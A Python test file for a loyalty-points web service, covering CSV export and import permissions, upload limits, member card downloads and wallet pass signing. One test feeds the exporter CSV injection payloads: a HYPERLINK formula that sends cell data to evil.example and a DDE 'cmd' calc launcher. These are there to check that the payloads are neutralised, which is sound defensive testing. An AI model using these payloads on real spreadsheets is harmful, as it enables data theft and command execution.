"""Export and import over HTTP, and the cards a member holds: who may, what they get."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import pytest
from sqlalchemy import func, select

from coalition.ledger.invariants import assert_ledger_consistent
from coalition.ledger.models import Entry
from coalition.members.models import Member

IMPORT = "external_id,email,balance,date\nx-1,imp1@example.com,50,2025-01-02\nx-2,,7,\n"


async def network(api: Any, make_merchant: Any, make_member: Any, ledger: Any) -> dict[str, Any]:
    a, b = await make_merchant("A"), await make_merchant("B")
    m1 = await make_member(a.merchant.id, email="one@example.com")
    m2 = await make_member(b.merchant.id, email="two@example.com")
    await ledger.earn(merchant_id=a.merchant.id, loyalty_id=m1.member.loyalty_id, purchase_amount_minor=1000,
                      idempotency_key="e1")
    await ledger.earn(merchant_id=b.merchant.id, loyalty_id=m2.member.loyalty_id, purchase_amount_minor=2000,
                      idempotency_key="e2")
    return {"a": a, "b": b, "m1": m1, "m2": m2}


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


async def test_a_merchant_exports_its_own_members_and_transactions_only(
        api: Any, make_merchant: Any, make_member: Any, ledger: Any, admin_key: str) -> None:
    net = await network(api, make_merchant, make_member, ledger)
    members = await api.client.get("/export/members.csv", headers=bearer(net["a"].api_key))
    assert members.status_code == 200 and members.headers["content-type"].startswith("text/csv")
    assert [r["loyalty_id"] for r in rows(members.text)] == [net["m1"].member.loyalty_id]
    assert "one@example.com" not in members.text  # no contact data in an export
    transactions = await api.client.get("/export/transactions.csv", headers=bearer(net["a"].api_key))
    assert [(r["kind"], r["points"]) for r in rows(transactions.text)] == [("EARN", "10")]
    # the network's, for an admin; one merchant's when named
    everything = await api.client.get("/export/transactions.csv", headers=bearer(admin_key))
    assert len(rows(everything.text)) == 2
    # a merchant cannot name another; a member token and no key get nothing
    assert (await api.client.get(f"/export/members.csv?merchant={net['b'].merchant.id}",
                                 headers=bearer(net["a"].api_key))).status_code == 403
    assert (await api.client.get("/export/members.csv", headers=bearer(net["m1"].member_token))).status_code == 403
    assert (await api.client.get("/export/members.csv")).status_code == 401


async def test_exports_stream_page_by_page(api: Any, make_merchant: Any, make_member: Any, ledger: Any,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    from coalition.portability import export

    monkeypatch.setattr(export, "PAGE", 1)
    net = await network(api, make_merchant, make_member, ledger)
    for n in range(3):
        await ledger.earn(merchant_id=net["a"].merchant.id, loyalty_id=net["m1"].member.loyalty_id,
                          purchase_amount_minor=100 + n, idempotency_key=f"more-{n}")
    response = await api.client.get("/export/transactions.csv", headers=bearer(net["a"].api_key))
    assert len(rows(response.text)) == 4


async def test_exported_text_is_never_a_spreadsheet_formula(api: Any, make_merchant: Any, make_member: Any,
                                                          ledger: Any, admin_key: str) -> None:
    # A rogue partner types formulas as references; the admin opens the network's export in a spreadsheet.
    shop = await make_merchant("Rogue")
    member = await make_member(shop.merchant.id)
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
                "\t=1+1", "\r=1+1"]
    for n, reference in enumerate(formulas):
        await ledger.earn(merchant_id=shop.merchant.id, loyalty_id=member.member.loyalty_id,
                          purchase_amount_minor=1000, reference=reference, idempotency_key=f"f{n}")
    await ledger.redeem(merchant_id=shop.merchant.id, loyalty_id=member.member.loyalty_id, points=3,
                        idempotency_key="r")
    for key in (admin_key, shop.api_key):
        exported = rows((await api.client.get("/export/transactions.csv", headers=bearer(key))).text)
        references = [r["reference"] for r in exported if r["kind"] == "EARN"]
        assert references == ["'" + f.strip() for f in formulas]  # shown as the text typed, never run
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in exported for k, cell in r.items()
                   if k != "points")
        assert [r["points"] for r in exported if r["kind"] == "REDEEM"] == ["-3"]  # numbers stay numbers


async def test_import_over_http_validates_loads_once_and_refuses_others(
        api: Any, db: Any, make_merchant: Any, admin_key: str, app: Any) -> None:
    shop = await make_merchant("Importer")
    headers = {**bearer(shop.api_key), "Content-Type": "text/csv"}
    template = await api.client.get("/import/members", headers=bearer(shop.api_key))
    assert template.status_code == 200 and template.text.startswith("external_id,type")
    dry = await api.client.post("/import/members?dryRun=1", content=IMPORT, headers=headers)
    assert dry.json()["status"] == "DRY_RUN"
    done = await api.client.post("/import/members", content=IMPORT, headers=headers)
    assert done.status_code == 200 and done.json()["status"] == "IMPORTED" and done.json()["membersCreated"] == 2
    again = await api.client.post("/import/members", content=IMPORT, headers=headers)
    assert again.json()["status"] == "ALREADY_IMPORTED"
    bad = await api.client.post("/import/members", content="external_id,balance\nz,-1\n", headers=headers)
    assert bad.status_code == 422
    assert bad.json()["errors"] == [{"line": 2, "column": "balance", "code": "NEGATIVE_BALANCE",
                                     "message": "balance is negative (-1): a balance cannot be below 0"}]
    # an admin must name the merchant; a member token and no key may not import
    assert (await api.client.post("/import/members", content=IMPORT, headers={**bearer(admin_key)})).json()[
        "errors"][0]["extensions"]["code"] == "MERCHANT_REQUIRED"
    assert (await api.client.post("/import/members", content=IMPORT)).status_code == 401
    async with db.read() as conn:
        assert (await conn.execute(select(func.count()).select_from(Member))).scalar_one() == 2
        assert (await conn.execute(select(func.count()).select_from(Entry))).scalar_one() == 2
        await assert_ledger_consistent(conn)


async def test_an_upload_over_the_limit_is_refused_with_413(api: Any, make_merchant: Any, app: Any,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    import dataclasses

    shop = await make_merchant("Importer")
    services = app.state.services
    monkeypatch.setattr(services, "settings", dataclasses.replace(services.settings, import_max_upload_bytes=1024))
    # the routes read the settings they were built with: build them again
    from coalition.web.portability import portability_routes

    route = next(r for r in portability_routes(services.settings, services.db, services.keys)
                 if r.path == "/import/members")
    import httpx
    from starlette.applications import Starlette
    from starlette.middleware import Middleware
    from starlette.middleware.authentication import AuthenticationMiddleware

    backend = next(m for m in app.user_middleware if m.cls is AuthenticationMiddleware)
    small = Starlette(routes=[route], middleware=[Middleware(AuthenticationMiddleware, *backend.args,
                                                             **backend.kwargs)])
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=small), base_url="http://t") as client:
        response = await client.post("/import/members", content="external_id\n" + "x" * 5000,
                                     headers=bearer(shop.api_key))
    assert response.status_code == 413 and response.json()["errors"][0]["extensions"]["code"] == "FILE_TOO_LARGE"


@pytest.mark.parametrize(("kind", "media", "magic"), [("qr.png", "image/png", b"\x89PNG"),
                                                      ("qr.svg", "image/svg+xml", b"<?xml"),
                                                      ("card.pdf", "application/pdf", b"%PDF"),
                                                      ("pass.pkpass", "application/vnd.apple.pkpass", b"PK")])
async def test_cards_go_to_the_member_and_its_enrolling_merchant_only(
        api: Any, make_merchant: Any, make_member: Any, ledger: Any, keys: Any, admin_key: str,
        kind: str, media: str, magic: bytes) -> None:
    net = await network(api, make_merchant, make_member, ledger)
    member_id = keys.global_ids.encode("Member", net["m1"].member.id)
    url = f"/members/{member_id}/{kind}"
    for who in (net["m1"].member_token, net["a"].api_key):
        response = await api.client.get(url, headers=bearer(who))
        assert response.status_code == 200 and response.headers["content-type"].startswith(media)
        assert response.content.startswith(magic)
    missing = await api.client.get(f"/members/{keys.global_ids.encode('Member', 10**9)}/{kind}",
                                   headers=bearer(net["a"].api_key))
    for who in (net["m2"].member_token, net["b"].api_key, admin_key):  # B knows m1 by nothing it did
        hidden = await api.client.get(url, headers=bearer(who))
        assert hidden.status_code == 404 and hidden.json() == missing.json()
    assert (await api.client.get(url)).status_code == 401


async def test_the_wallet_pass_holds_a_manifest_of_sha1_hashes_and_is_signed_when_configured(
        api: Any, make_merchant: Any, make_member: Any, ledger: Any, keys: Any, tmp_path: Any) -> None:
    import datetime as dt
    import hashlib

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.serialization import pkcs7
    from cryptography.x509.oid import NameOID

    from coalition.members.cards import CardFace, PassSigner, wallet_pass

    face = CardFace("Coalition", "AAAA-BBBB-CCCC", keys.qr_payload("AAAA-BBBB-CCCC"))
    unsigned = zipfile.ZipFile(io.BytesIO(wallet_pass(face, serial="s", pass_type_identifier="pass.x",
                                                      team_identifier="T", signer=None)))
    manifest = json.loads(unsigned.read("manifest.json"))
    assert set(unsigned.namelist()) == {"pass.json", "icon.png", "manifest.json"}
    assert manifest == {name: hashlib.sha1(unsigned.read(name)).hexdigest() for name in ("pass.json", "icon.png")}
    assert json.loads(unsigned.read("pass.json"))["barcodes"][0]["message"] == face.qr_payload

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Pass Type ID: pass.x")])
    now = dt.datetime.now(dt.UTC)
    certificate = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
                   .serial_number(1).not_valid_before(now).not_valid_after(now + dt.timedelta(days=1))
                   .sign(key, hashes.SHA256()))
    signer = PassSigner(certificate.public_bytes(serialization.Encoding.PEM), key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    signed = zipfile.ZipFile(io.BytesIO(wallet_pass(face, serial="s", pass_type_identifier="pass.x",
                                                    team_identifier="T", signer=signer)))
    signature = signed.read("signature")
    assert pkcs7.load_der_pkcs7_certificates(signature)[0] == certificate
